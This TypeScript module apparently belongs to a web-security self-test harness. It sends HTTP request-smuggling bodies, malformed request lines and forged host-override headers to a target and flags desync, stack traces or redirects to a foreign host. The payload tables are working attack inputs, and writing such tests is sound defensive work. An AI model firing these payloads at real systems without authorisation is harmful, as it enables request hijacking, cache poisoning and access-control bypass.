import { type AttackClass, type Attempt, pairs } from '../attack.ts';
import { exchangeBytes } from '../exchange.ts';
import type { Target } from '../target.ts';

const CRLF = '\r\n';
/** A request that must never be taken out of the body of another one. */
const INNER = `GET /smuggled HTTP/1.1${CRLF}Host: localhost${CRLF}${CRLF}`;

/** Heads and bodies on whose end two parsers could disagree. `INNER` is data in all of them. */
const UNCLEAR: Readonly<Record<string, string>> = {
  'length and chunks': `Content-Length: 4${CRLF}Transfer-Encoding: chunked${CRLF}${CRLF}0${CRLF}${CRLF}`,
  'chunks and length': `Transfer-Encoding: chunked${CRLF}Content-Length: 4${CRLF}${CRLF}0${CRLF}${CRLF}`,
  'two lengths': `Content-Length: 0${CRLF}Content-Length: 60${CRLF}${CRLF}`,
  'two lengths in one': `Content-Length: 0, 60${CRLF}${CRLF}`,
  'a length with a plus': `Content-Length: +0${CRLF}${CRLF}`,
  'a length with a minus': `Content-Length: -1${CRLF}${CRLF}`,
  'a length in hexadecimal': `Content-Length: 0x0${CRLF}${CRLF}`,
  'a length with a space': `Content-Length : 0${CRLF}${CRLF}`,
  'a length with a letter': `Content-Length: 0a${CRLF}${CRLF}`,
  'a length of nothing': `Content-Length: ${CRLF}${CRLF}`,
  'a length beyond all numbers': `Content-Length: 99999999999999999999${CRLF}${CRLF}`,
  'a folded length': `Content-Length:${CRLF} 0${CRLF}${CRLF}`,
  'a folded encoding': `Transfer-Encoding:${CRLF} chunked${CRLF}${CRLF}0${CRLF}${CRLF}`,
  'an unknown encoding': `Transfer-Encoding: xchunked${CRLF}Content-Length: 0${CRLF}${CRLF}`,
  'an encoding with a tab': `Transfer-Encoding:\tchunked${CRLF}Content-Length: 0${CRLF}${CRLF}`,
  'an encoding with a space': `Transfer-Encoding : chunked${CRLF}Content-Length: 0${CRLF}${CRLF}`,
  'an encoding in quotes': `Transfer-Encoding: "chunked"${CRLF}Content-Length: 0${CRLF}${CRLF}`,
  'an encoding with a vertical tab': `Transfer-Encoding: \x0bchunked${CRLF}Content-Length: 0${CRLF}${CRLF}`,
  'two encodings': `Transfer-Encoding: chunked${CRLF}Transfer-Encoding: identity${CRLF}${CRLF}0${CRLF}${CRLF}`,
  'a list of encodings': `Transfer-Encoding: identity, chunked${CRLF}${CRLF}0${CRLF}${CRLF}`,
  'chunked first': `Transfer-Encoding: chunked, identity${CRLF}${CRLF}0${CRLF}${CRLF}`,
  'a chunk with a wrong size': `Transfer-Encoding: chunked${CRLF}${CRLF}zz${CRLF}x${CRLF}0${CRLF}${CRLF}`,
  'a chunk with a minus': `Transfer-Encoding: chunked${CRLF}${CRLF}-1${CRLF}x${CRLF}0${CRLF}${CRLF}`,
  'an enormous chunk': `Transfer-Encoding: chunked${CRLF}${CRLF}fffffffffffffffff${CRLF}x${CRLF}0${CRLF}${CRLF}`,
  'a chunk that ends with a line feed': `Transfer-Encoding: chunked${CRLF}${CRLF}1\nx\n0\n\n`,
  'an extension of a chunk': `Transfer-Encoding: chunked${CRLF}${CRLF}0;x=${'y'.repeat(20_000)}${CRLF}${CRLF}`,
  trailers: `Transfer-Encoding: chunked${CRLF}${CRLF}0${CRLF}Host: claimed.example${CRLF}${CRLF}`,
  'a line feed as the end': 'X: y\nContent-Length: 0\n\n',
  'a carriage return as the end': 'X: y\rContent-Length: 60\r\r',
  'a NUL in a name': `X\0: y${CRLF}${CRLF}`,
  'a NUL in a value': `X: \0y${CRLF}${CRLF}`,
  'no colon': `X y${CRLF}${CRLF}`,
  'an empty name': `: y${CRLF}${CRLF}`,
  'a space before a name': ` X: y${CRLF}${CRLF}`,
  'a name of other letters': `X\xe9: y${CRLF}${CRLF}`,
};

/** First lines that are none, or lead elsewhere. */
const FIRST_LINES = [
  'GET / HTTP/0.9',
  'GET / HTTP/1.0',
  'GET / HTTP/1.2',
  'GET / HTTP/2.0',
  'GET / HTTP/9.9',
  'GET / HTTP/1.1x',
  'GET / http/1.1',
  'GET /',
  'GET',
  '',
  ' GET / HTTP/1.1',
  'GET  / HTTP/1.1',
  'GET\t/\tHTTP/1.1',
  'GET / / HTTP/1.1',
  'GET * HTTP/1.1',
  'OPTIONS * HTTP/1.1',
  'CONNECT 127.0.0.1:22 HTTP/1.1',
  'CONNECT localhost:80 HTTP/1.1',
  'GET http://claimed.example/ HTTP/1.1',
  'GET http://127.0.0.1:1/ HTTP/1.1',
  'GET https://claimed.example/gallery HTTP/1.1',
  'GET //claimed.example/ HTTP/1.1',
  'GET //claimed.example/%2e%2e HTTP/1.1',
  'GET /\\claimed.example HTTP/1.1',
  'GET \\ HTTP/1.1',
  'GET claimed.example HTTP/1.1',
  'GET /?\x7f HTTP/1.1',
  'GET /\x00 HTTP/1.1',
  'GET /\xff HTTP/1.1',
  `GET /${'a'.repeat(200_000)} HTTP/1.1`,
  'TRACE / HTTP/1.1',
  'TRACK / HTTP/1.1',
  'DEBUG / HTTP/1.1',
  'PRI * HTTP/2.0',
  'M-SEARCH * HTTP/1.1',
  'XXXX / HTTP/1.1',
  'get / HTTP/1.1',
  '\x16\x03\x01\x02\x00\x01\x00',
];

/** Headers by which a proxy, or somebody who plays one, would speak for another host or caller. */
const CLAIMS = [
  'Host: claimed.example',
  'X-Forwarded-Host: claimed.example',
  'X-Host: claimed.example',
  'X-Forwarded-Server: claimed.example',
  'Forwarded: host=claimed.example;for=127.0.0.1;proto=https',
  'X-Original-URL: /api/auth/me',
  'X-Rewrite-URL: /api/auth/me',
  'X-Original-Host: claimed.example',
  'X-HTTP-Host-Override: claimed.example',
  'X-Forwarded-Proto: javascript',
  'X-Forwarded-Prefix: //claimed.example',
  'X-Forwarded-Port: 1',
  'Referer: https://claimed.example/',
  'Origin: https://claimed.example',
  'Host: localhost\r\nHost: claimed.example',
  'Host: claimed.example\r\nHost: localhost',
  'Host: localhost@claimed.example',
  'Host: localhost:x',
  'Host: ',
  'Host: a b',
  'Host: claimed.example/x',
  'Host: <script>',
];
const PAGES = [
  '/',
  '/gallery',
  '/auth',
  '/sitemap.xml',
  '/feed.xml',
  '/robots.txt',
  '/manifest.webmanifest',
  '/post/none',
];

/** Attempts to have one request taken for two, for another, or for one of another host. */
export function smuggling(target: Target): AttackClass {
  const { url } = target;
  const { host } = new URL(url);
  const bodies = pairs(
    ['POST /api/auth/signin/email', 'GET /gallery', 'POST /contact'],
    Object.entries(UNCLEAR),
  ).map(
    ([line, [what, rest]]): Attempt => ({
      what: `${line} with ${what}`,
      async run() {
        const head = `${line} HTTP/1.1${CRLF}Host: ${host}${CRLF}`;
        return judge(await exchangeBytes(url, head + rest + INNER, 300), what);
      },
    }),
  );
  const lines = pairs(FIRST_LINES, ['', `Host: ${host}${CRLF}`]).map(
    ([line, hostLine]): Attempt => ({
      what: `${JSON.stringify(line.slice(0, 50))} ${hostLine === '' ? 'without a host' : ''}`,
      async run() {
        const text = await exchangeBytes(
          url,
          `${line}${CRLF}${hostLine}Connection: close${CRLF}${CRLF}`,
          500,
        );
        if (/^HTTP\/1\.1 200/.test(text) && /^(?:CONNECT|TRACE|TRACK|DEBUG)/.test(line)) return 'it was done';
        return reveals(text);
      },
    }),
  );
  const claims = pairs(CLAIMS, PAGES).map(
    ([claim, path]): Attempt => ({
      what: `${path} with ${JSON.stringify(claim)}`,
      async run() {
        const hostLine = claim.startsWith('Host') ? '' : `Host: ${host}${CRLF}`;
        const text = await exchangeBytes(
          url,
          `GET ${path} HTTP/1.1${CRLF}${hostLine}${claim}${CRLF}Connection: close${CRLF}${CRLF}`,
          3_000,
        );
        return reveals(text);
      },
    }),
  );
  return { name: 'smuggled requests', attempts: [...bodies, ...lines, ...claims], concurrency: 16 };
}

/** Connections are closed after what cannot be read; a later request on them is answered only where the first one ended. */
function judge(text: string, what: string): string | undefined {
  const statuses = [...text.matchAll(/HTTP\/1\.1 (\d{3})/g)].map(([, status]) => Number(status));
  // These end where every parser sees it: what follows is a request of its own.
  const isClear = /^(?:an extension|trailers|a list of encodings|a NUL|an empty|a name)/.test(what);
  if (!isClear && statuses.length > 1 && text.includes('smuggled'))
    return `two responses: ${statuses.join(', ')}`;
  return reveals(text);
}

function reveals(text: string): string | undefined {
  const status = Number(/^HTTP\/1\.1 (\d{3})/.exec(text)?.[1] ?? 0);
  if (status >= 500) return text.slice(0, 120);
  if (/node:internal|\n\s+at .*:\d+:\d+/.test(text)) return 'it shows a stack';
  // The path of a page that does not exist may come back behind our own host.
  const echoed =
    /(?:^location: |href="|content="|action="|<loc>)(?:https?:)?[\\/]{2}[^"\r\n/<]*claimed\.example/im.exec(
      text,
    )?.[0];
  return echoed === undefined ? undefined : `it leads to the other host: ${echoed}`;
}
